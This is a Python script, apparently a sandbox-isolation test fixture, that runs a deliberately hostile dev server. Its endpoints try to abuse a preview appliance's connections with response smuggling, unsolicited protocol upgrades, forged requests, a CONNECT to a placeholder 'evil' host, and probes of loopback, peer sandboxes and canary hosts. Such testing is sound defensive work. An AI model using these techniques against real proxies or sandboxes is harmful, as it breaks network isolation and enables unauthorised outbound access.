# A dev server that tries to use the preview's upstream connection (the
# socket the appliance opened inside the sandbox's netns) to reach out.
# Run in the sandbox: python3 hostile_app.py PORT CANARY EVIL MARK PREVIEWPORT PEER
# (PEER: another sandbox, whose app listens on PORT too).
import base64, hashlib, socket, sys, threading

PORT, CANARY, EVIL, MARK, PPORT, PEER = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), sys.argv[6]

# What the app writes, unasked, on connections the appliance opened: a
# forged request for the canary and a CONNECT to the evil server.
FORGED = ("GET http://%s/%s HTTP/1.1\r\nHost: %s\r\n\r\nCONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n"
          % (CANARY, MARK, CANARY, EVIL, EVIL)).encode()


def attempt(host, port, payload):
    try:
        s = socket.create_connection((host, port), timeout=4)
    except Exception as e:
        return "no-connect(%s)" % e.__class__.__name__
    try:
        s.settimeout(4)
        s.sendall(payload)
        return "answer(%r)" % s.recv(200)
    except Exception as e:
        return "no-answer(%s)" % e.__class__.__name__
    finally:
        s.close()


def reach(conn):
    peer = conn.getpeername()
    lines = [
        "canary-80 " + attempt(CANARY, 80, ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (MARK, CANARY)).encode()),
        "evil-443 " + attempt(EVIL, 443, FORGED),
        "listener-on-loopback " + attempt("127.0.0.1", PPORT, b"GET / HTTP/1.0\r\n\r\n"),
        "appliance-end " + attempt(peer[0], peer[1], FORGED),
        "other-sandbox " + attempt(PEER, PORT, b"GET / HTTP/1.0\r\n\r\n"),
    ]
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(MARK.encode(), (CANARY, 9999))
        u.close()
    except Exception:
        pass
    return "\n".join(lines)


def respond(conn, status, body, extra=""):
    conn.sendall(("HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n%s\r\n" % (status, len(body), extra)).encode() + body)


def handle(conn):
    f = conn.makefile("rb")
    while True:
        line = f.readline()
        if not line:
            return
        path = line.split()[1].decode() if len(line.split()) > 1 else "/"
        headers = {}
        while True:
            h = f.readline().decode()
            if h in ("\r\n", "\n", ""):
                break
            k, _, v = h.partition(":")
            headers[k.strip().lower()] = v.strip()
        if path == "/peer":
            p, l = conn.getpeername(), conn.getsockname()
            respond(conn, "200 OK", ("peer=%s:%d local=%s:%d" % (p[0], p[1], l[0], l[1])).encode())
        elif path == "/reach":
            respond(conn, "200 OK", reach(conn).encode())
        elif path == "/smuggle":
            # One answer, then a second, unasked one and a forged request.
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
                         + ("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\nSMUGGLED-%s" % (9 + len(MARK), MARK)).encode() + FORGED)
        elif path == "/redirect":
            respond(conn, "307 Temporary Redirect", b"", "Location: http://%s/%s\r\n" % (CANARY, MARK))
        elif path == "/switch":
            # Switching protocols on a request that asked for none.
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: tcp\r\nConnection: Upgrade\r\n\r\n" + FORGED)
            return
        elif path == "/ws" and headers.get("upgrade", "").lower() == "websocket":
            k = headers.get("sec-websocket-key", "") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
            conn.sendall(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                          "Sec-WebSocket-Accept: %s\r\n\r\n" % base64.b64encode(hashlib.sha1(k.encode()).digest()).decode()).encode())
            conn.sendall(FORGED)
            while True:  # then a raw echo
                d = f.read1(4096)
                if not d:
                    return
                conn.sendall(d)
        else:
            respond(conn, "200 OK", b"hostile app")


def serve(conn):
    try:
        handle(conn)
    except Exception:
        pass
    finally:
        conn.close()


ln = socket.socket()
ln.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ln.bind(("127.0.0.1", PORT))
ln.listen(64)
while True:
    c, _ = ln.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
